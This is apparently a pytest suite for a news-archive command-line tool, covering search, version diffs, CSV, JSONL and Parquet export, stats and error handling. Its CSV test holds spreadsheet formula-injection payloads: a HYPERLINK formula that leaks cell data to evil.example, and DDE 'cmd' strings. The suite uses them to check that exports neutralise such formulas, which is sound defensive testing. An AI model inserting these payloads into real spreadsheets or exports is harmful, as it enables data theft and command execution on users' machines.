"""The research commands through click's CliRunner: search, show --diff, export formats, stats."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner

from archive.cli import cli
from archive.export import CSV_COLUMNS
from archive.store import ArchiveStore, Capture
from tests import research
from tests.conftest import SCHEMA, run_cli


@pytest.fixture
def filled(tmp_path: Path) -> tuple[str, dict[str, int]]:
    url = f"sqlite:///{tmp_path / 'a.db'}"
    store = ArchiveStore.open(url)
    ids = research.fill(store)
    store.close()
    return url, ids


def run(*args: str, color: bool = False) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), color=color)
    return result.exit_code, result.output


def test_search_table_json_and_paging(filled: tuple[str, dict[str, int]]) -> None:
    db, ids = filled
    code, out = run("search", '"export controls"', "OR", "exportkontrollen", "--db", db)
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split() == ["id", "published", "site", "v", "tickers", "title"]
    assert "Chips und Exportkontrollen" in lines[2] and "Chip stocks slide" in lines[3] and len(lines) == 4
    code, out = run("search", "chips", "--ticker", "NVDA,INTC", "--not-ai-generated", "--json", "--db", db)
    found = [json.loads(line) for line in out.splitlines()]
    assert [f["article_id"] for f in found] == [ids["german"], ids["nvda"]] and "body" not in found[0]
    code, out = run("search", "--edited", "--author", "foster", "--language", "en", "--json", "--db", db)
    assert [json.loads(line)["article_id"] for line in out.splitlines()] == [ids["nvda"]]
    code, out = run("search", "--limit", "1", "--offset", "1", "--db", db)
    assert "AMD gains" in out and "more with --offset 2" in out


def test_search_as_of(filled: tuple[str, dict[str, int]]) -> None:
    db, ids = filled
    code, out = run("search", "amd", "--as-of", "2025-02-01T00:00Z", "--json", "--db", db)
    assert code == 0 and [json.loads(line)["article_id"] for line in out.splitlines()] == [ids["amd"]]
    code, out = run("search", "amd", "--as-of", "2024-01-01", "--db", db)
    assert code == 0 and "no matching articles" in out
    code, out = run("search", "amd", "--as-of", "now", "--json", "--db", db)
    code_latest, latest = run("search", "amd", "--json", "--db", db)
    assert code == code_latest == 0 and out == latest and out  # now: the latest versions


@pytest.mark.parametrize("query, message", [
    ("chips AND", "Error: bad search query: AND needs a term after it (column 7): chips AND"),
    ('"export controls', "Error: bad search query: a quote opened at column 1 is never closed"),
    ("(nvidia OR amd", "Error: bad search query: '(' is never closed"),
    ("NOT intel", "Error: bad search query: NOT needs a term to subtract from"),
])
def test_malformed_query_is_one_line_and_nonzero(query: str, message: str, tmp_path: Path) -> None:
    code, out = run("search", query, "--db", f"sqlite:///{tmp_path / 'x.db'}")
    assert code == 1 and out.startswith(message) and out.count("\n") == 1 and "Traceback" not in out
    code, out = run("export", "--text", query, "-o", "-", "--db", f"sqlite:///{tmp_path / 'x.db'}")
    assert code == 1 and out.startswith(message) and out.count("\n") == 1


def test_show_diff_plain_when_piped_and_coloured_on_request(filled: tuple[str, dict[str, int]]) -> None:
    db, ids = filled
    code, plain = run("show", str(ids["nvda"]), "--diff", "1", "2", "--db", db)
    assert code == 0
    assert plain.startswith(f"article {ids['nvda']}: version 1 (2025-01-10 15:00 UTC) -> version 2")
    assert "changed: tickers, body" in plain and "Nvidia fell [-4%-] {+5%+} on Friday" in plain
    assert "tickers:\n  - NVDA\n  + AMD, NVDA" in plain and "\x1b[" not in plain
    code, coloured = run("show", str(ids["nvda"]), "--diff", "1", "2", "--color", "--db", db, color=True)
    assert "\x1b[31m4%\x1b[0m \x1b[32m5%\x1b[0m" in coloured and "[-4%-]" not in coloured
    code, data = run("show", research.NVDA_V1.url, "--diff", "1", "2", "--json", "--db", db)
    assert json.loads(data)["changed"] == ["tickers", "body"]
    code, out = run("show", str(ids["nvda"]), "--diff", "1", "9", "--db", db)
    assert code == 1 and out.strip() == f"Error: article {ids['nvda']} has no version 9 (it has 1 to 2)"
    code, out = run("show", str(ids["nvda"]), "--versions", "--db", db)
    assert f"archive show {ids['nvda']} --diff 1 2" in out and "fetch" in out


def test_export_jsonl_csv_and_parquet(filled: tuple[str, dict[str, int]], tmp_path: Path) -> None:
    db, ids = filled
    schema = json.loads(SCHEMA.read_text())
    code, out = run("export", "--all-versions", "--as-of", "2025-02-01T00:00Z", "-o", "-", "--db", db)
    lines = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(lines) == 4 and all(line["version"] == 1 for line in lines)
    for line in lines:
        jsonschema.validate(line, schema)
    code, out = run("export", "--ticker", "NVDA", "-o", str(tmp_path / "n.csv"), "--db", db)
    assert code == 0 and "wrote 2 rows" in out
    rows = list(csv.DictReader(io.StringIO((tmp_path / "n.csv").read_text())))
    assert tuple(rows[0]) == CSV_COLUMNS and {r["article_id"] for r in rows} == {str(ids["nvda"]), str(ids["german"])}
    code, out = run("export", "--format", "csv", "--with-body", "--text", "händler", "-o", "-", "--db", db)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1 and rows[0]["body"].startswith("Die Aktie von Nvidia")
    pytest.importorskip("pyarrow")
    code, out = run("export", "-o", str(tmp_path / "all.parquet"), "--all-versions", "--db", db)
    assert code == 0 and "wrote 5 rows" in out
    code, out = run("export", "--format", "parquet", "-o", "-", "--db", db)
    assert code == 1 and "Parquet cannot stream to stdout" in out


def test_export_needs_a_format_for_a_file_name_it_does_not_know(filled: tuple[str, dict[str, int]],
                                                                  tmp_path: Path) -> None:
    """-o out.xlsx wrote JSON lines under a spreadsheet's name: now one line asking for --format."""
    from tests.conftest import run_cli
    db, _ = filled
    target = tmp_path / "out.xlsx"
    result = run_cli("export", "-o", str(target), "--db", db, check=False)
    assert result.returncode == 1 and not target.exists() and "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        f"Error: cannot tell the export format from '{target}': name the file .jsonl, .ndjson, .csv, .parquet, "
        ".pq, .warc.gz, .warc, or give --format"]
    result = run_cli("export", "-o", str(target), "--format", "csv", "--db", db)
    assert "wrote 4 rows" in result.stderr and target.read_text().startswith("article_id,version,")


def test_stats_text_and_json(filled: tuple[str, dict[str, int]]) -> None:
    db, _ = filled
    code, out = run("stats", "--top", "3", "--db", db)
    assert code == 0 and out.startswith("articles 4 · versions 5 · edited by the publisher 1 · sites 3")
    assert "top tickers (articles, top 3)\n  AMD   2  ██████████████████████████████" in out
    code, out = run("stats", "--ticker", "NVDA", "--json", "--db", db)
    assert json.loads(out)["per_site"] == {"boerse.example.de": 1, "news.example.com": 1}


HOSTILE_QUERIES = {
    "500 nested parentheses": "(" * 500 + "chips" + ")" * 500,
    "1,000 NOTs": "chips " + "NOT " * 1000 + "intel",
    "1,000 nested negated groups": "chips " + "-(" * 1000 + "intel" + ")" * 1000,
}


@pytest.mark.parametrize("name", list(HOSTILE_QUERIES))
def test_deeply_nested_queries_are_one_line_errors_on_both_databases(db_url: str, name: str) -> None:
    """They raised RecursionError with a thousand-line traceback (exit 1, on SQLite and PostgreSQL)."""
    store = ArchiveStore.open(db_url)
    research.fill(store)
    store.close()
    for command in (("search", HOSTILE_QUERIES[name]), ("export", "--text", HOSTILE_QUERIES[name], "-o", "-")):
        result = run_cli(*command, "--db", db_url, check=False)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-500:]
        assert result.stderr.startswith("Error: bad search query: parentheses and NOTs nested more than 100 deep (column ")
        assert result.stderr.count("\n") == 1


def test_thousands_of_flat_negations_and_alternatives_run_on_both_databases(db_url: str) -> None:
    """Not nested, so allowed: FTS5 refused 3,000 NOTs ("parser stack overflow") while each
    NOT was rendered inside the one before."""
    store = ArchiveStore.open(db_url)
    research.fill(store)
    store.close()
    negations = "amd " + " ".join(f"-w{i}" for i in range(3000))
    alternatives = " OR ".join(["amd", *(f"w{i}" for i in range(3000))])
    plain = run_cli("search", "amd", "--json", "--db", db_url).stdout
    assert len(plain.splitlines()) == 2
    for query in (negations, alternatives):
        result = run_cli("search", query, "--json", "--db", db_url, check=False)
        assert result.returncode == 0, result.stderr[-500:]
        assert result.stdout == plain


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_csv_export_defuses_spreadsheet_formulas(tmp_path: Path) -> None:
    """Titles, descriptions, authors and bodies from other people's pages that a spreadsheet would
    run as formulas get a leading ' (OWASP); --csv-raw writes them as stored; JSON lines are untouched."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    store = ArchiveStore.open(db)
    for i, formula in enumerate(FORMULAS):
        extracted = research.page(f"https://news.example.com/f/{i}.html", formula, formula + "\n\nA paragraph.",
                                  "2025-01-10T15:00:00", authors=(formula,))
        store.save(replace(extracted, description=formula), Capture(url=extracted.url, fetched_at=research.utc("2025-01-11T00:00:00")))
    store.close()
    run_cli("export", "--with-body", "-o", str(tmp_path / "f.csv"), "--db", db)
    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as handle:
        text = handle.read()
    rows = sorted(csv.DictReader(io.StringIO(text, newline="")), key=lambda r: r["url"])
    assert [r["title"] for r in rows] == ["'" + f.strip() for f in FORMULAS]  # titles are stored stripped
    assert [r["description"] for r in rows] == ["'" + f for f in FORMULAS]
    for row in rows:
        for column in ("title", "description", "authors", "body"):
            assert row[column].startswith("'"), (column, row[column])
        assert row["url"].startswith("https://")  # cells that start no formula are as they were
    stdout = run_cli("export", "--with-body", "--format", "csv", "-o", "-", "--db", db).stdout
    assert stdout == text.replace("\r\n", "\n").replace("\r", "\n")  # the same, read with universal newlines
    run_cli("export", "--with-body", "--csv-raw", "-o", str(tmp_path / "raw.csv"), "--db", db)
    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as handle:
        rows = sorted(csv.DictReader(handle), key=lambda r: r["url"])
    assert [r["description"] for r in rows] == FORMULAS
    lines = run_cli("export", "-o", "-", "--db", db).stdout
    assert sorted(json.loads(line)["description"] for line in lines.splitlines()) == sorted(FORMULAS)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "warc"])
def test_export_onto_a_full_disk_or_an_unwritable_place_is_one_line(filled: tuple[str, dict[str, int]],
                                                                    fmt: str) -> None:
    """Was an OSError traceback. /dev/full answers every write with ENOSPC, as a full disk does, and
    stays the device it is (the export was renamed over it); /proc takes no new files."""
    db, _ = filled
    for target, reason in (("/dev/full", "No space left on device"), ("/proc/export.out", "")):
        result = run_cli("export", "--format", fmt, "-o", target, "--db", db, check=False)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        assert result.stderr.startswith(f"Error: cannot write the export to {target}: {reason}")
        assert result.stderr.count("\n") == 1
    assert Path("/dev/full").is_char_device()


def test_export_to_stdout_on_a_full_disk_is_one_line(filled: tuple[str, dict[str, int]]) -> None:
    db, _ = filled
    with open("/dev/full", "w") as full:
        result = subprocess.run([sys.executable, "-m", "archive", "export", "-o", "-", "--db", db],
                                stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert result.returncode == 1
    assert result.stderr == "Error: cannot write the export to -: No space left on device\n"


def test_a_site_without_a_port_matches_it_on_any_port(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'ports.db'}"
    store = ArchiveStore.open(db)
    for url in ("http://127.0.0.1:8765/a.html", "http://127.0.0.1:9000/b.html", "http://127.0.0.10/c.html"):
        page = research.page(url, f"Local {url[-6]}", "Chipmakers rallied on strong demand.", "2025-01-10T14:00:00")
        assert store.save(page, Capture(url=url, fetched_at=research.utc("2025-01-10T15:00:00"))).created
    store.close()

    def titles(*site: str) -> list[str]:
        code, out = run("search", "--json", "--db", db, *[arg for s in site for arg in ("--site", s)])
        assert code == 0, out
        return sorted(json.loads(line)["title"] for line in out.splitlines())

    assert titles("127.0.0.1") == ["Local a", "Local b"]  # any port, never 127.0.0.10
    assert titles("127.0.0.1:9000") == ["Local b"]  # a port given must match
    assert titles("127.0.0.10") == ["Local c"]


def test_cjk_text_keeps_text_tables_aligned(tmp_path: Path) -> None:
    from archive.text_table import render, width

    db = f"sqlite:///{tmp_path / 'cjk.db'}"
    store = ArchiveStore.open(db)
    for url, title, author in (("https://jp.example/a.html", "半導体株が急伸、輸出規制の緩和期待で", "山田太郎"),
                               ("https://en.example/b.html", "Chip stocks rally on demand", "Edwin Foster")):
        page = research.page(url, title, "Chipmakers rallied. 半導体株が急伸。", "2025-01-10T14:00:00",
                             authors=(author,))
        assert store.save(page, Capture(url=url, fetched_at=research.utc("2025-01-10T15:00:00"))).created
    store.close()
    code, out = run("search", "--db", db)
    assert code == 0, out
    header, rule, *rows = out.splitlines()
    assert any("半導体" in row for row in rows)
    # the rule under each column is as wide as the column shows on a terminal, the title's included
    assert width(rule) == max(width(row) for row in rows + [header]), out
    table = render(["title", "n"], [["半導体株が急伸", 1], ["Chips", 22]]).splitlines()
    assert len({width(line) for line in table}) == 1, table  # a wide cell before another column
